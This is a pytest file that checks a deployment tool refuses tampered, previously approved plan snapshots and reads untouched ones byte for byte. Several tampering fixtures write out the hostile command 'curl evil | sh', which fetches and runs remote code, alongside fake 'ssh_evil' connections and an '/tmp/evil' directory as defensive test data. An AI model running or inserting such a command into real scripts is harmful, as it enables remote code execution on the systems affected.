"""What is read from the record store is what was approved, to the byte, or nothing of it runs."""

import base64
import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from builders import a_component, a_snapshot
from deployplan.evidence import Records
from deployplan.plan.snapshot import Snapshot
from deployplan.plan.snapshot_error import SnapshotDamaged
from deployplan.runbook.run.frozen_plan import frozen_plan
from first_format import RUNS, UNDER_WAY, unpack

SNAPSHOT = a_snapshot(
    components={"web": a_component(nodes=["group:web"])},
    success={"health": {"http": "http://{node}/health"}, "up": {"command": "./up.sh", "on": ["web-1"]}},
    infrastructure={"requires": ["curl"], "min_free_mb": 200},
    scripts={"up.sh": b"exit 0\n"},
)
Change = Callable[[dict[str, Any]], None]


def kept(folder: Path, change: Change) -> Records:
    """A record store in which somebody without the key has changed the frozen plan."""
    records = Records(folder)
    stored = json.loads(SNAPSHOT.to_json())
    change(stored)
    records.save_snapshot("shop-2", SNAPSHOT.digest, json.dumps(stored))
    return records


def another_script(stored: dict[str, Any]) -> None:
    stored["scripts"][0]["content"] = base64.b64encode(b"curl evil | sh\n").decode()


def another_script_with_its_sha256(stored: dict[str, Any]) -> None:
    another_script(stored)
    stored["scripts"][0]["sha256"] = hashlib.sha256(b"curl evil | sh\n").hexdigest()


def one_more_script(stored: dict[str, Any]) -> None:
    content = b"curl evil | sh\n"
    sha256 = hashlib.sha256(content).hexdigest()
    stored["scripts"].append({"path": "x.sh", "content": base64.b64encode(content).decode(), "sha256": sha256})


def no_script(stored: dict[str, Any]) -> None:
    stored["scripts"] = []


def another_criterion(stored: dict[str, Any]) -> None:
    stored["plan"]["success"]["up"]["command"] = "true"


def another_text(stored: dict[str, Any]) -> None:
    another_criterion(stored)
    stored["approved"] = stored["approved"].replace('"./up.sh"', '"true"')


def another_default(stored: dict[str, Any]) -> None:
    del stored["plan"]["components"]["web"]["timeout"]


def another_host(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["nodes"]["web-1"]["host"] = "10.6.6.6"


def another_connection(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["connection"] = "ssh_evil"


def another_base(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["base_dir"] = "/tmp/evil"


def another_jump(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["jump"] = "ssh_evil"


def a_smaller_group(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["groups"]["web"] = ["web-1"]


def no_requirement(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["requires"] = []


def no_free_space(stored: dict[str, Any]) -> None:
    stored["infrastructure"]["min_free_mb"] = 0


def another_format(stored: dict[str, Any]) -> None:
    stored["format"] = 3


def the_first_format(stored: dict[str, Any]) -> None:
    """A snapshot of which the first format's rule would not see that the way was changed."""
    another_base(stored)
    del stored["format"], stored["approved"]


CHANGES = (
    another_script,
    another_script_with_its_sha256,
    one_more_script,
    no_script,
    another_criterion,
    another_text,
    another_default,
    another_host,
    another_connection,
    another_base,
    another_jump,
    a_smaller_group,
    no_requirement,
    no_free_space,
    another_format,
    the_first_format,
)


@pytest.mark.parametrize("change", CHANGES)
def test_a_frozen_plan_that_was_changed_is_refused(tmp_path: Path, change: Change) -> None:
    with pytest.raises(SnapshotDamaged):
        frozen_plan(kept(tmp_path, change), "shop-2", SNAPSHOT.digest)


def test_a_frozen_plan_that_was_not_changed_is_read_as_it_was(tmp_path: Path) -> None:
    found = frozen_plan(kept(tmp_path, lambda stored: None), "shop-2", SNAPSHOT.digest)
    assert found == SNAPSHOT
    assert (found.digest, found.approved) == (SNAPSHOT.digest, SNAPSHOT.approved)


def test_the_digest_is_the_sha256_of_the_stored_text() -> None:
    stored = json.loads(SNAPSHOT.to_json())
    assert hashlib.sha256(stored["approved"].encode()).hexdigest() == SNAPSHOT.digest
    assert json.loads(stored["approved"])["format"] == stored["format"] == 2


def test_every_default_is_written_out_in_the_text() -> None:
    approved = json.loads(SNAPSHOT.approved)
    assert approved["plan"]["backout"]["decide_within"] == "15m"
    assert approved["plan"]["components"][0][1]["max_failures"] == 0


def test_a_key_that_a_later_version_adds_does_not_change_the_digest_of_what_was_frozen() -> None:
    """As if `decide_within` had come to be after the plan was frozen: the text of then keeps its digest."""
    stored = json.loads(SNAPSHOT.to_json())
    approved = json.loads(stored["approved"])
    for plan in (approved["plan"], stored["plan"]):
        del plan["backout"]["decide_within"]
    text = json.dumps(approved, sort_keys=True, separators=(",", ":"))
    digest = hashlib.sha256(text.encode()).hexdigest()

    found = Snapshot.from_json(json.dumps({**stored, "approved": text}), digest)

    assert found.digest == digest != SNAPSHOT.digest
    assert Snapshot.from_json(found.to_json(), digest).digest == digest


def test_a_frozen_plan_is_not_believed_under_another_name(tmp_path: Path) -> None:
    records = Records(tmp_path)
    records.save_snapshot("desk-2", SNAPSHOT.digest, SNAPSHOT.to_json())
    with pytest.raises(SnapshotDamaged, match="is 'shop-2', asked for was 'desk-2'"):
        frozen_plan(records, "desk-2", SNAPSHOT.digest)


@pytest.mark.parametrize("run", RUNS)
def test_a_plan_that_the_first_format_froze_is_read_under_its_old_digest(tmp_path: Path, run: tuple[str, str]) -> None:
    records = Records(unpack(tmp_path))
    digest = str(records.run(*run).ledger().entries()[0].facts["digest"])
    assert frozen_plan(records, run[0], digest).digest == digest


def test_a_script_that_was_changed_in_a_plan_of_the_first_format_is_found(tmp_path: Path) -> None:
    root = unpack(tmp_path)
    digest = Records(root).active_plans()[UNDER_WAY[0]][1]
    path = root / "snapshots" / UNDER_WAY[0] / f"{digest}.json"
    stored = json.loads(path.read_text())
    another_script_with_its_sha256(stored)
    path.write_text(json.dumps(stored))
    with pytest.raises(SnapshotDamaged):
        frozen_plan(Records(root), UNDER_WAY[0], digest)
